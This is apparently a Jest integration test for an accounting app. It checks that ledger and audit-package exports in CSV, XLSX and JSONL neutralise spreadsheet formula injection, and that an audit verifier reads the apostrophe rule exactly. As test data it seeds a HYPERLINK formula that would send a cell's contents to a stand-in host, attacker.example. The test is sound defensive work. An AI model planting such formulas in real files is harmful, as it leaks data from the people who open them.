import ExcelJS from 'exceljs';
import { ZipArchive } from 'archiver';
import { createHash } from 'node:crypto';
import { createWriteStream } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { finished } from 'node:stream/promises';
import { Client } from 'pg';
import * as yauzl from 'yauzl';
import { guardFormula, guardFormulaSql } from '@app/common';
import { AuditPackageManifest, verifyAuditPackage } from '@app/statements';
import { expectLedgerSound } from './support/ledger-assertions';
import { binary, parseCsv, workbookOf } from './support/report-files';
import { startTestApp, TestApp } from './support/test-app';

/**
 * Text a spreadsheet would run as a formula (CSV injection), in every file an auditor opens: the
 * general-ledger export and the audit package's CSV files. Each is parsed as RFC 4180 and read back
 * with the rule the auditors' documentation gives, written out here on its own.
 */
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];
const STARTS_A_FORMULA = /^[=+\-@\t\r]/;
/** The documented reading rule: a field of apostrophes then a formula character lost one apostrophe. */
const rawValue = (field: string): string => (/^'+[=+\-@\t\r]/.test(field) ? field.slice(1) : field);

const HOSTILE = `HYPERLINK("http://attacker.example/?leak="&B2,"Payment")`;
const DESCRIPTIONS = [
  ...FORMULA_STARTS.map((c) => `${c}${HOSTILE}`),
  "'=SUM(1) already marked by its author",
  "''@twice marked",
  'Plain description, México',
];
const ACCOUNT = '-9100';
const ACCOUNT_NAME = `=${HOSTILE}`;
const FUND = '-FUND';

/** A number is read as a number (a negative balance keeps its sign): only text can smuggle a formula. */
const NUMBER = /^-?\d+(\.\d+)?$/;

/** Every text field that a spreadsheet would start as a formula, as `file:line:column=value`. */
function formulaFields(name: string, rows: string[][]): string[] {
  const found: string[] = [];
  rows.forEach((r, line) =>
    r.forEach(
      (f, i) =>
        STARTS_A_FORMULA.test(f) &&
        !NUMBER.test(f) &&
        found.push(`${name}:${line + 1}:${rows[0][i]}=${JSON.stringify(f)}`),
    ),
  );
  return found;
}

const column = (rows: string[][], name: string): string[] => {
  const i = rows[0].indexOf(name);
  if (i < 0) throw new Error(`no column ${name}`);
  return rows.slice(1).map((r) => r[i]);
};

async function unzip(zip: Buffer): Promise<Map<string, Buffer>> {
  const file = await yauzl.fromBufferPromise(zip, { lazyEntries: true });
  const out = new Map<string, Buffer>();
  for await (const entry of file.eachEntry()) {
    const chunks: Buffer[] = [];
    for await (const chunk of (await file.openReadStreamPromise(entry)) as AsyncIterable<Buffer>) chunks.push(chunk);
    out.set(entry.fileName, Buffer.concat(chunks));
  }
  file.close();
  return out;
}

async function rezip(path: string, files: Map<string, Buffer>): Promise<string> {
  const archive = new ZipArchive();
  const out = createWriteStream(path);
  archive.pipe(out);
  for (const [name, content] of files) archive.append(content, { name });
  await archive.finalize();
  await finished(out);
  return path;
}

const sha256 = (b: Buffer): string => createHash('sha256').update(b).digest('hex');

describe('text a spreadsheet would run as a formula, in the files auditors open', () => {
  let t: TestApp;
  let db: Client;
  let dir: string;
  let glCsv: string;
  let packageZip: Buffer;
  let packageFiles: Map<string, Buffer>;
  let manifest: AuditPackageManifest;

  const download = async (path: string): Promise<Buffer> =>
    (await t.as('auditor').get(path).buffer(true).parse(binary).expect(200)).body as Buffer;

  beforeAll(async () => {
    t = await startTestApp();
    db = new Client({ connectionString: t.databaseUrl });
    await db.connect();
    dir = await mkdtemp(join(tmpdir(), 'formula-guard-'));
    await t.as('admin').post('/v1/accounts', { code: ACCOUNT, name: ACCOUNT_NAME, type: 'expense' }).expect(201);
    await t
      .as('admin')
      .post('/v1/funds', { code: FUND, name: `@${HOSTILE}`, kind: 'general' })
      .expect(201);
    for (const [i, description] of DESCRIPTIONS.entries()) {
      await t
        .as('secretariat')
        .post('/v1/journal-entries', {
          date: `2005-03-${String(i + 1).padStart(2, '0')}`,
          description,
          metadata: { note: `=${HOSTILE}` },
          lines: [
            { account: ACCOUNT, fund: FUND, side: 'debit', amount: `${i + 1}.00` },
            { account: '1010', fund: FUND, side: 'credit', amount: `${i + 1}.00` },
          ],
        })
        .expect(201);
    }
    // An audit row whose text starts a formula (the API no longer keeps such request ids; older rows may hold them).
    await db.query(
      `INSERT INTO audit_log (actor_role, action, target, request_id, outcome, status_code, detail)
       VALUES ('admin', $1, '+target', '-1-1', 'success', 201, '"@detail"'::jsonb)`,
      [`=${HOSTILE}`],
    );
    glCsv = (await download('/v1/exports/general-ledger?format=csv')).toString('utf8');
    packageZip = await download('/v1/exports/audit-package?fiscalYear=2005');
    packageFiles = await unzip(packageZip);
    manifest = JSON.parse(packageFiles.get('manifest.json')!.toString('utf8')) as AuditPackageManifest;
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
    await db.end();
    await t.close();
  });

  it('the GL CSV export starts no field with = + - @ tab or CR, and the documented rule gives back the exact text', () => {
    const rows = parseCsv(glCsv, '\n');
    expect(formulaFields('general-ledger.csv', rows)).toEqual([]);
    const descriptions = column(rows, 'description');
    expect([...new Set(descriptions.map(rawValue))]).toEqual(DESCRIPTIONS);
    expect([...new Set(column(rows, 'account').map(rawValue))].sort()).toEqual([ACCOUNT, '1010'].sort());
    expect([...new Set(column(rows, 'fund').map(rawValue))]).toEqual([FUND]);
    // The prefix is one apostrophe, nothing else.
    expect(descriptions[0]).toBe(`'=${HOSTILE}`);
    expect(descriptions).toContain(`'\t${HOSTILE}`);
    expect(descriptions).toContain("''=SUM(1) already marked by its author");
    expect(descriptions).toContain('Plain description, México');
  });

  it('the GL JSON lines keep the exact text (JSON is not a spreadsheet)', async () => {
    const records = (await download('/v1/exports/general-ledger?format=jsonl'))
      .toString('utf8')
      .split('\n')
      .filter((l) => l !== '')
      .map((l) => JSON.parse(l) as { description: string; account: string; fund: string });
    expect([...new Set(records.map((r) => r.description))]).toEqual(DESCRIPTIONS);
    expect([...new Set(records.map((r) => r.account))].sort()).toEqual([ACCOUNT, '1010'].sort());
    expect([...new Set(records.map((r) => r.fund))]).toEqual([FUND]);
  });

  it('the GL XLSX holds the exact text in text cells, never a formula', async () => {
    const xlsx = await download('/v1/exports/general-ledger?format=xlsx');
    const sheetXml = (await unzip(xlsx)).get('xl/worksheets/sheet1.xml')!.toString('utf8');
    expect(sheetXml).not.toMatch(/<f[ >]/);
    const workbook = await workbookOf(xlsx);
    const sheet = workbook.worksheets[0];
    const cells: { type: ExcelJS.ValueType; formula: string | undefined; value: ExcelJS.CellValue }[] = [];
    sheet.eachRow(
      (row, n) =>
        n > 1 &&
        cells.push({ type: row.getCell(4).type, formula: row.getCell(4).formula, value: row.getCell(4).value }),
    );
    expect(cells.every((c) => c.type === ExcelJS.ValueType.String && c.formula === undefined)).toBe(true);
    // Exact text, but for the carriage return: an XML reader turns a raw CR into a line feed (XML
    // 1.0, end-of-line handling) — a matter of fidelity of the sheet, not of formulas.
    const values = [...new Set(cells.map((c) => (typeof c.value === 'string' ? c.value : JSON.stringify(c.value))))];
    expect(values.filter((v) => !v.startsWith('\n'))).toEqual(DESCRIPTIONS.filter((d) => !d.startsWith('\r')));
  });

  it("the audit package's CSV files start no field with a formula character; the rule gives back the exact text", () => {
    const csvFiles = manifest.files.filter((f) => f.name.endsWith('.csv'));
    expect(csvFiles.map((f) => f.kind).sort()).toEqual([
      'audit-log',
      'balances',
      'general-ledger',
      'journal',
      'trial-balance',
    ]);
    const found = csvFiles.flatMap((f) => formulaFields(f.name, parseCsv(packageFiles.get(f.name)!.toString('utf8'), '\n')));
    expect(found).toEqual([]);

    const journal = parseCsv(packageFiles.get('journal-2005.csv')!.toString('utf8'), '\n');
    expect([...new Set(column(journal, 'description').map(rawValue))]).toEqual(DESCRIPTIONS);
    expect(new Set(column(journal, 'account').map(rawValue))).toEqual(new Set([ACCOUNT, '1010']));
    // The metadata is a JSON object: it starts with "{", its values stay exact inside it.
    expect(JSON.parse(column(journal, 'metadata')[0])).toEqual({ note: `=${HOSTILE}` });
    const gl = packageFiles.get('general-ledger-2005.csv')!.toString('utf8');
    expect(gl).toBe(glCsv); // the package's general ledger is the GL export of the year, byte for byte
    const tb = parseCsv(packageFiles.get('trial-balance-2005-12-31.csv')!.toString('utf8'), '\n');
    expect(column(tb, 'account_name').map(rawValue)).toContain(ACCOUNT_NAME);
    expect(column(tb, 'account').map(rawValue)).toContain(ACCOUNT);
    const balances = parseCsv(packageFiles.get('balances-2005.csv')!.toString('utf8'), '\n');
    expect(column(balances, 'account_name').map(rawValue)).toContain(ACCOUNT_NAME);
    const auditLog = parseCsv(packageFiles.get('audit-log-2005.csv')!.toString('utf8'), '\n');
    const hostileRow = auditLog.find((r) => r.includes("'+target"));
    expect(hostileRow?.map(rawValue)).toEqual(expect.arrayContaining([`=${HOSTILE}`, '+target', '-1-1', '"@detail"']));
  });

  it('a package holding such text verifies offline (the chain recomputes from the raw text), and its manifest states the rule', async () => {
    const path = join(dir, 'audit-package-2005.zip');
    await writeFile(path, packageZip);
    expect(await verifyAuditPackage(path)).toEqual({
      ok: true,
      fiscalYear: 2005,
      chainHead: manifest.chainHead,
      entriesChecked: DESCRIPTIONS.length,
      filesChecked: 7,
      problems: [],
    });
    expect(manifest.format).toBe('audit-package/v2');
    expect(manifest.textFields).toMatch(/apostrophe/);
    await expectLedgerSound(t);
  });

  it('the verifier reads fields by that rule exactly: one apostrophe more, or a manifest of the older format, breaks the chain', async () => {
    const journal = packageFiles.get('journal-2005.csv')!.toString('utf8');
    const withManifest = (files: Map<string, Buffer>, m: AuditPackageManifest): Map<string, Buffer> =>
      new Map(files).set('manifest.json', Buffer.from(JSON.stringify(m), 'utf8'));

    const quoted = HOSTILE.replace(/"/g, '""');
    const doubled = journal.replaceAll(`,"'=${quoted}"`, `,"''=${quoted}"`);
    expect(doubled).not.toBe(journal);
    const forged = withManifest(new Map(packageFiles).set('journal-2005.csv', Buffer.from(doubled, 'utf8')), {
      ...manifest,
      files: manifest.files.map((f) =>
        f.kind === 'journal'
          ? { ...f, sha256: sha256(Buffer.from(doubled, 'utf8')), bytes: Buffer.byteLength(doubled) }
          : f,
      ),
    });
    const one = await verifyAuditPackage(await rezip(join(dir, 'doubled.zip'), forged));
    expect(one.problems).toContainEqual({
      file: 'journal-2005.csv',
      message: `chain broken at sequence 1: the entry as exported does not match its hash`,
    });

    // An audit-package/v1 file holds raw text: read so, the neutralised description no longer hashes.
    const v1 = await verifyAuditPackage(
      await rezip(
        join(dir, 'v1.zip'),
        withManifest(packageFiles, { ...manifest, format: 'audit-package/v1' } as unknown as AuditPackageManifest),
      ),
    );
    expect(v1.problems).toContainEqual({
      file: 'journal-2005.csv',
      message: 'chain broken at sequence 1: the entry as exported does not match its hash',
    });
  });

  it('the SQL form of the guard (COPY) writes what the code form writes, for every kind of first character', async () => {
    // Every text of up to three characters over apostrophes, formula characters and others, then real ones.
    const alphabet = ["'", ...FORMULA_STARTS, '\n', 'a', 'ñ', ' '];
    let short = [''];
    for (let length = 0; length < 3; length++)
      short = [...short, ...short.filter((x) => x.length === length).flatMap((x) => alphabet.map((c) => x + c))];
    const samples = [...short, ...DESCRIPTIONS, 'a=b', '€=', "'''-x", null];
    const { rows } = await db.query<{ raw: string | null; written: string | null }>(
      `SELECT raw, ${guardFormulaSql('raw')} AS written FROM unnest($1::text[]) WITH ORDINALITY AS s(raw, n) ORDER BY n`,
      [samples],
    );
    expect(rows.map((r) => r.written)).toEqual(samples.map((v) => (v === null ? null : guardFormula(v))));
  });
});
